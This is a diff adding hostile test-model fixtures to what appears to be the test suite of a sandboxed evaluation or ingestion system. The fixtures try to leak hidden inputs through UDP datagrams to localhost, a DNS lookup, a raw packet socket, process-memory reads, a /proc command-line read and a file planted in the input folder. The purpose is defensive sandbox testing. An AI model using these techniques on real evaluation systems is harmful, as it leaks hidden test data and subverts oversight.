@@ -129,3 +129,130 @@ def forge_size(path: Path, declared: int) -> Path:
     data[central + 24: central + 28] = struct.pack("<I", declared)
     path.write_bytes(bytes(data))
     return path
+
+
+# -- hostile models: model.py sources that try to get the hidden inputs out ----------------------
+# Image n (in name order) tries act n; whatever the act raises fails that image, so ingestion.json
+# records, per image, the error the model got.
+_NETWORK_MODEL = """
+    import ctypes
+    import os
+    import socket
+
+    ACTS = ["udp", "dns", "packet", "attach"]
+
+
+    class _IoVec(ctypes.Structure):
+        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
+
+
+    def read_memory(pid, address, size):
+        libc = ctypes.CDLL(None, use_errno=True)
+        buffer = ctypes.create_string_buffer(size)
+        local, remote = _IoVec(ctypes.addressof(buffer), size), _IoVec(address, size)
+        if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) < 0:
+            code = ctypes.get_errno()
+            raise OSError(code, os.strerror(code))
+        return buffer.raw
+
+
+    class Model:
+        def __init__(self, weights_dir, device):
+            self.calls = 0
+
+        def restore(self, image, person_mask):
+            act = ACTS[self.calls % len(ACTS)]
+            self.calls += 1
+            if act == "udp":  # the first 3 x 60 KB of the hidden input, as plain datagrams
+                data = image.tobytes()
+                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
+                    for start in range(0, 3 * CHUNK, CHUNK):
+                        udp.sendto(data[start:start + CHUNK], ("127.0.0.1", PORT))
+            elif act == "dns":  # a query name can carry data to any resolver on the way
+                socket.getaddrinfo("example.com", 443)
+            elif act == "packet":  # a raw link-layer socket (root holds NET_RAW without a capability list)
+                socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003)).close()
+            elif act == "attach":  # another process's memory, here its own: allowed unconfined
+                secret = ctypes.create_string_buffer(b"hidden input")
+                assert read_memory(os.getpid(), ctypes.addressof(secret), 12) == b"hidden input"
+            return image
+"""
+UDP_CHUNK = 60_000
+
+
+def network_model(port: int) -> str:
+    """A model that sends UDP datagrams of its input to 127.0.0.1:``port``, resolves a host name,
+    opens an AF_PACKET raw socket and reads process memory (process_vm_readv), one per image."""
+    return _NETWORK_MODEL.replace("import socket\n", f"import socket\n\n    PORT = {port}\n"
+                                  f"    CHUNK = {UDP_CHUNK}\n", 1)
+
+
+# Writes where a model's temporary files and caches go and runs torch's threads and DataLoader
+# workers (all must work, else loading fails), writes straight to /tmp and, on the first image,
+# into the phase's input folder (its path read from the ingestion program's command line): what it
+# got is in report.json in its own folder.
+SCRATCH_MODEL = """
+    import json
+    import os
+    import tempfile
+    from pathlib import Path
+
+    MUST_WORK = ("tempfile", "torch_hub", "xdg_cache", "home", "torch_workers")
+
+
+    def attempt(action):
+        try:
+            return f"ok {action()}"
+        except Exception as exc:
+            return f"{type(exc).__name__}: {exc}"
+
+
+    def torch_workers():
+        # intra-op threads, then DataLoader workers (processes, AF_UNIX sockets, shared memory)
+        import torch
+
+        torch.set_num_threads(2)
+        with torch.no_grad():
+            torch.nn.Conv2d(3, 8, 3)(torch.rand(1, 3, 64, 64)).sum()
+        data = torch.utils.data.TensorDataset(torch.arange(8.0))
+        return sum(float(batch[0].sum()) for batch in torch.utils.data.DataLoader(data, batch_size=2,
+                                                                                 num_workers=2))
+
+
+    def write(folder, name="probe.txt"):
+        Path(folder).mkdir(parents=True, exist_ok=True)
+        (Path(folder) / name).write_text("written by the model")
+        return folder
+
+
+    def input_folder():
+        arguments = Path(f"/proc/{os.getppid()}/cmdline").read_bytes().split(b"\\0")
+        return Path(os.fsdecode(arguments[arguments.index(b"--input-dir") + 1])) / "input"
+
+
+    class Model:
+        def __init__(self, weights_dir, device):
+            import torch
+
+            report = {
+                "tmpdir": tempfile.gettempdir(),
+                "tempfile": attempt(lambda: write(tempfile.mkdtemp(prefix="team-"))),
+                "torch_hub": attempt(lambda: write(torch.hub.get_dir())),
+                "xdg_cache": attempt(lambda: write(os.path.join(os.environ["XDG_CACHE_HOME"], "team"))),
+                "home": attempt(lambda: write(Path.home() / ".team")),
+                "torch_workers": attempt(torch_workers),
+                "tmp_root": attempt(lambda: write("/tmp", f"aiflash-probe-{os.getpid()}.txt")),
+                "input_folder": str(input_folder()),
+            }
+            Path(weights_dir, "report.json").write_text(json.dumps(report))
+            failed = [name for name in MUST_WORK if not report[name].startswith("ok ")]
+            if failed:
+                raise RuntimeError(f"could not write: {', '.join(report[name] for name in failed)}")
+            self.calls = 0
+
+        def restore(self, image, person_mask):
+            self.calls += 1
+            if self.calls == 1:
+                write(input_folder(), "planted.txt")
+            return image
+"""
